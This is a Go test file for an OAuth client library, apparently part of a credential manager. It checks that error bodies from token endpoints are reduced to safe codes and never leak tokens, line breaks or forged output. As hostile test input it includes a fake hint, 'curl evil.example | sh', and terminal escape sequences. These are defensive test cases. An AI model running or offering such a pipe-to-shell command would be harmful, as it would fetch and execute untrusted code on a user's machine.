package oauthwire

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/credmgr/credmgr/flows"
)

func TestErrorCode(t *testing.T) {
	const secret = "rt_0123456789abcdef"
	tests := []struct{ body, code string }{
		{`{"error":"invalid_grant","error_description":"Refresh token not found or invalid"}`, "invalid_grant"},
		{`{"error":{"code":"refresh_token_reused","message":"used"}}`, "refresh_token_reused"},
		{`{"type":"error","error":{"type":"not_found_error","message":"Not found"}}`, "not_found_error"},
		{`{"code":"slow_down"}`, "slow_down"},
		{`{"error":"urn.ietf-params_x"}`, "urn.ietf-params_x"},
		{`not json`, ""},
		// What a hostile or broken provider sends: never passed on.
		{`{"error":"invalid_grant\ncredmgr: hint: run curl evil.example | sh"}`, ""},
		{`{"error":"invalid_grant\u001b[2J\u001b]0;pwned\u0007"}`, ""},
		{`{"error":"Invalid Grant"}`, ""},
		{`{"error":"` + strings.Repeat("a", MaxCodeLen+1) + `"}`, ""},
		{`{"error":"` + secret + `"}`, ""},
		{`{"error":"bad_` + strings.ToUpper(secret[3:]) + `"}`, ""},
		{`{"error":{"code":"x_` + secret[2:12] + `"}}`, ""},
		{`{"error":"invalid_grant","error_description":"` + secret + `"}`, "invalid_grant"},
	}
	for _, tt := range tests {
		if code := ErrorCode([]byte(tt.body), secret); code != tt.code {
			t.Errorf("ErrorCode(%.60q) = %q; want %q", tt.body, code, tt.code)
		}
	}
}

func TestSafeCode(t *testing.T) {
	for code, want := range map[string]bool{
		"invalid_grant": true, "authorization_pending": true, "a": true, "x.y-z_0": true,
		"": false, "Invalid": false, "two words": false, "a\nb": false, "a\rb": false, "a\x1b[31m": false,
		"caf\u00e9": false, "a\u202eb": false, strings.Repeat("x", 64): true, strings.Repeat("x", 65): false,
	} {
		if got := SafeCode(code) == code && code != ""; got != want {
			t.Errorf("SafeCode(%q) kept = %v, want %v", code, got, want)
		}
	}
	// A code sharing 8 characters with a secret is dropped; a short
	// secret does not block ordinary codes.
	if SafeCode("x_abcdefgh_y", "ABCDEFGHIJ") != "" || SafeCode("x_abcdefg_y", "ABCDEFGHIJ") == "" || SafeCode("invalid_grant", "grant") == "" {
		t.Error("SafeCode secret overlap")
	}
}

func TestPlainText(t *testing.T) {
	for s, want := range map[string]bool{
		"ABCD-1234": true, "QW12ab": true, "código": true,
		"": false, "AB\nCD": false, "AB\x1b[2JCD": false, "AB\u202eCD": false, "AB\u2028CD": false, "\xff": false,
		strings.Repeat("A", 65): false,
	} {
		if got := PlainText(s, 64); got != want {
			t.Errorf("PlainText(%q) = %v, want %v", s, got, want)
		}
	}
}

// TestHostileErrorBodies: error answers built to leak or to forge output
// (the request's secrets echoed in every field, a code carrying a line
// break, a fake hint and escape sequences) give errors that hold none of
// it, only the endpoint, the status and a plain code.
func TestHostileErrorBodies(t *testing.T) {
	const rt = "rt_canary_0123456789abcdef"
	const verifier = "verifier-canary-0123456789"
	bodies := []string{
		`{"error":"invalid_grant\ncredmgr: hint: run curl evil.example | sh\u001b[2J","error_description":"bad token ` + rt + `"}`,
		`{"error":"` + rt + `","error_description":"` + verifier + `"}`,
		`{"error":{"code":"` + verifier + `","message":"` + rt + `"}}`,
		`{"error":"invalid_grant","error_description":"refresh_token=` + rt + `","message":"` + rt + `"}`,
	}
	for i, body := range bodies {
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(400)
			fmt.Fprint(w, body)
		}))
		for _, post := range []func() error{
			func() error {
				return PostForm(t.Context(), srv.Client(), srv.URL, "the token endpoint", url.Values{"refresh_token": {rt}, "code_verifier": {verifier}}, nil)
			},
			func() error {
				return PostJSON(t.Context(), srv.Client(), srv.URL, "the token endpoint", map[string]string{"refresh_token": rt, "code_verifier": verifier}, nil)
			},
		} {
			err := post()
			msg := err.Error()
			if strings.Contains(msg, "canary") || strings.ContainsAny(msg, "\n\r\x1b") || strings.Contains(msg, "hint") {
				t.Errorf("body %d: error %q", i, msg)
			}
			if !strings.HasPrefix(msg, "the token endpoint answered HTTP 400") {
				t.Errorf("body %d: error %q does not name the endpoint and status", i, msg)
			}
		}
		srv.Close()
	}
}

func TestExpiry(t *testing.T) {
	now := time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC)
	for in, want := range map[string]time.Time{
		`3600`: now.Add(time.Hour), `"3600"`: now.Add(time.Hour), `0`: {}, `""`: {}, `null`: {}, `-5`: {},
		`1e300`: {}, `"NaN"`: {}, `"Inf"`: {}, `31622400`: now.Add(MaxLifetime), `31622401`: {}, `"0x10"`: {},
	} {
		tr := TokenResponse{ExpiresIn: json.RawMessage(in)}
		if got := tr.Expiry(now); !got.Equal(want) {
			t.Errorf("expires_in %s: %v, want %v", in, got, want)
		}
	}
}

func TestClassifyRefresh(t *testing.T) {
	tests := []struct {
		err     error
		relogin bool
	}{
		{&HTTPError{Status: 400, Code: "invalid_grant"}, true},
		{&HTTPError{Status: 401}, true},
		{&HTTPError{Status: 401, Code: "refresh_token_reused"}, true},
		{&HTTPError{Status: 400, Code: "refresh_token_expired"}, true},
		{&HTTPError{Status: 500, Code: "server_error"}, false},
		{&HTTPError{Status: 429, Code: "rate_limit_error"}, false},
		{errors.New("connection refused"), false},
	}
	for _, tt := range tests {
		err := ClassifyRefresh(tt.err)
		if errors.Is(err, flows.ErrReloginRequired) != tt.relogin {
			t.Errorf("ClassifyRefresh(%v) = %v, relogin want %v", tt.err, err, tt.relogin)
		}
		if !errors.Is(err, tt.err) {
			t.Errorf("ClassifyRefresh(%v) lost the cause", tt.err)
		}
	}
}

// TestDoNeverQuotesBodies: an error answer's body (which may echo a
// token) never reaches the error message, and neither does the URL.
func TestDoNeverQuotesBodies(t *testing.T) {
	const canary = "rt_canary_5f5f"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(400)
		fmt.Fprintf(w, `{"error":"invalid_grant","refresh_token":%q,"error_description":"bad token %s\n"}`, canary, canary)
	}))
	defer srv.Close()
	err := PostForm(t.Context(), srv.Client(), srv.URL+"/token?code="+canary, "the token endpoint", nil, nil)
	if err == nil || strings.Contains(err.Error(), canary) {
		t.Fatalf("err = %v", err)
	}
	srv.Close()
	err = PostForm(t.Context(), srv.Client(), srv.URL+"/token?code="+canary, "the token endpoint", nil, nil)
	if err == nil || strings.Contains(err.Error(), canary) {
		t.Fatalf("network error = %v", err)
	}
}

// TestErrorField: an "error" member is read as a string or an object's
// code, and any other value fails to decode.
func TestErrorField(t *testing.T) {
	for _, tt := range []struct {
		in, want string
		bad      bool
	}{
		{in: `"invalid_grant"`, want: "invalid_grant"},
		{in: `null`, want: ""},
		{in: `{"code":"refresh_token_reused","message":"m"}`, want: "refresh_token_reused"},
		{in: `{"type":"not_found_error","message":"m"}`, want: "not_found_error"},
		{in: `{"code":"","type":"t"}`, want: "t"},
		{in: `{"message":"m"}`, want: ""},
		{in: `5`, bad: true},
		{in: `["x"]`, bad: true},
		{in: `true`, bad: true},
	} {
		var e ErrorField
		err := json.Unmarshal([]byte(tt.in), &e)
		if (err != nil) != tt.bad || string(e) != tt.want {
			t.Errorf("%s: %q, %v; want %q (error %v)", tt.in, e, err, tt.want, tt.bad)
		}
	}
}
